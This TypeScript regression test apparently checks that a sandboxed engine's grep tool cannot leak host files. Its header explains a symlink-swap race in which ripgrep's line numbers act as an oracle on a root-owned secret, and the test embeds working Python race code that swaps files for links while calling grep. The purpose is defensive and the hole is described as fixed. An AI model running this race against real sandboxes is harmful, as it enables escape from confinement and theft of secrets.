// ATTACK (surface 2, host file tools): grep runs ripgrep ON THE HOST, unconfined (as the host
// user: root here), over /proc/<pid>/fd/<n> of the verified target directory. ripgrep lists the
// directory, then opens each regular file BY NAME, following symlinks. A guest thread that keeps
// swapping a file in the root between a regular file and a symlink to a host file makes ripgrep
// read the host file now and then. The host re-reads what ripgrep reported beneath the target
// (O_NOFOLLOW) and keeps only the line numbers ripgrep reported whose re-read line matches,
// so the text shown is the decoy's, but the LINE NUMBERS are ripgrep's reading of the host file:
// an oracle. Decoy: "KEY" on lines 1-5; host secret (0600, outside every root): "KEY=..." on
// line 2 only. A result of exactly [2] can only come from reading the secret. With fixed-string
// terms of its choosing the block learns a host file's content a prefix at a time
// ("KEY=a", "KEY=b", ...). On the current code a [2] comes back within seconds.
// Fixed: in a confined session ripgrep runs in the session's tool jail (src/tools/fs/search.ts),
// where only the roots are: whatever link the sandbox swaps in leads to nothing of the host's.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import { hostSecretEngine } from './host-secret-engine.js'

const fx = hostSecretEngine('rgrace', 'nothing here\nKEY=hunter2\nnothing\n')
const { root, secret } = fx

test('grep never reports what ripgrep read through a link swapped in during its walk', async () => {
  const s = await fx.e.createSession({ roots: [root] })
  const r = await fx.e.runBlock(s.id, {
    code: `import os, threading, time
os.makedirs('w', exist_ok=True)
N = 8
DECOY = 'KEY\\n' * 5
for i in range(N):
    open(f'w/f{i}', 'w').write(DECOY)
stop = [False]
def swapper():
    while not stop[0]:
        for i in range(N):
            try:
                os.symlink(${JSON.stringify(secret)}, f'w/.l{i}')
                os.replace(f'w/.l{i}', f'w/f{i}')
                with open(f'w/.d{i}', 'w') as fh:
                    fh.write(DECOY)
                os.replace(f'w/.d{i}', f'w/f{i}')
            except OSError:
                pass
threading.Thread(target=swapper, daemon=True).start()
t0 = time.time()
calls = 0
leaked = None
while time.time() - t0 < 60 and leaked is None:
    calls += 1
    try:
        r = await grep('KEY', paths=['w'])
    except Exception:
        continue
    by = {}
    for h in r['hits']:
        by.setdefault(h['path'], []).append(h['line'])
    for p, lines in by.items():
        if sorted(lines) == [2]:
            leaked = p
stop[0] = True
print('LEAKED' if leaked else 'HELD', leaked, calls)`,
    timeout_ms: 120_000,
  })
  assert.equal(r.block.error, null, JSON.stringify(r.block.error))
  assert.doesNotMatch(
    r.block.stdout ?? '',
    /LEAKED/,
    `grep reported ripgrep's reading of a host file outside the roots (line numbers of ${secret}): ${r.block.stdout}`,
  )
})
